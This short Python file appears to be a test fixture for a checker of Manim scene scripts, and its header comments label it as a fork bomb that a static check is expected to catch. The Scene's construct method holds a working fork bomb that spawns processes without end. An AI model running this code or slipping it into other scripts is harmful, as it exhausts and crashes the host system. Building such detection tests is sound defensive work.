# expect: static
# what: fork bomb with multiprocessing
import multiprocessing
from manim import *
class Hostile(Scene):
    def construct(self):
        def spawn():
            while True:
                multiprocessing.Process(target=spawn).start()
        spawn()
